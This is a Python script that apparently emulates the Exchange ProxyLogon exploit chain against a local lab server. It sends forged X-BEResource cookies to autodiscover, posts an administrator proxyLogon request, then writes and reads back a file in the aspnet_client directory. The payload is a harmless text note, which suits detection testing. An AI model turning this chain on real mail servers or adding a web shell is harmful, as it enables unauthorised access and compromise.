#!/usr/bin/env python3
# ruff: noqa
"""Autodiscover probe chain, rewritten with requests (flat script)."""

import sys

import requests

port = int(sys.argv[1]) if len(sys.argv) > 1 else 8080
base = f"http://127.0.0.1:{port}"
browser = (
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
)
common = {
    "User-Agent": browser,
    "x-requested-with": "XMLHttpRequest",
    "Accept": "*/*",
    "accept-language": "en-US,en;q=0.9",
    "connection": "close",
}
upload = "/aspnet_client/system_web/readme_91453.txt"

probe_headers = dict(common)
probe_headers["cookie"] = (
    "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; "
    "X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522"
)
query = {
    "Pad": "A" * 37,
    "Protocol": "Autodiscoverv1",
    "Email": "administrator@lab.invalid/mapi/nspi",
    "RequestId": "20200302-7720",
}
r = requests.get(
    base + "/autodiscover/autodiscover.json", params=query, headers=probe_headers, timeout=10
)
ok = r.status_code < 500
if ok:
    r = requests.post(
        base + "/ecp/proxyLogon.ecp",
        headers={
            "user-agent": browser,
            "msexchlogonmailbox": "S-1-5-20",
            "content-type": "application/json",
            "X-BEResource": "localhost@lab.invalid/ecp/proxyLogon.ecp",
        },
        data='{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}',
        timeout=10,
    )
    who = r.text.strip() if r.status_code == 200 else "" or "anonymous"
    note = "\n".join(f"note {i} of 3 for {who}" for i in range(1, 4))
    r = requests.post(
        base + upload,
        headers={"user-agent": browser, "X-Note-Path": upload, "Content-Type": "text/plain"},
        data=note.encode(),
        timeout=10,
    )
    r = requests.get(base + upload, headers=common, timeout=10)
    print("read back", len(r.content[:1024]))
